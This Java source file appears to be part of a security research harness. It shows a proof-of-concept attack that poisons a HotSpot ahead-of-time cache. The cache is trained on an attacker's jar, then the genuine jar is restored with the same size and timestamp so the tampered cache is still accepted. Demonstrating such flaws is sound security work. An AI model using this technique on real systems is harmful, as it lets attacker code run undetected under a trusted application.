package stanchion.attack;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;

/// An ahead-of-time cache that was trained on the attacker's jar while that stood in the place of
/// the good one, with the good one's length and time stamp: all that HotSpot compares.
final class EvilCache {
    private static final String MAIN = "canary.charger/canary.charger.Main";

    private EvilCache() {}

    /// Makes one for the jar of slot A, and shows that it works.
    static byte[] of(Charger charger) throws IOException, InterruptedException {
        Path app = Files.createDirectory(charger.work().resolve("training"));
        Path jar = app.resolve("charger.jar");
        Path cache = app.resolve("charger.aot");
        byte[] good = Contents.of(charger, "charger.jar");
        write(jar, Evil.of(good));
        Evil.mustWork(charger, "-XX:AOTCacheOutput=" + cache, "-p", jar.toString(), "-m", MAIN);
        write(jar, good);
        Evil.mustWork(charger, "-XX:AOTCache=" + cache, "-p", jar.toString(), "-m", MAIN);
        return Files.readAllBytes(cache);
    }

    private static void write(Path jar, byte[] content) throws IOException {
        Files.write(jar, content);
        Files.setLastModifiedTime(jar, FileTime.fromMillis(1_767_225_600_000L));
    }
}
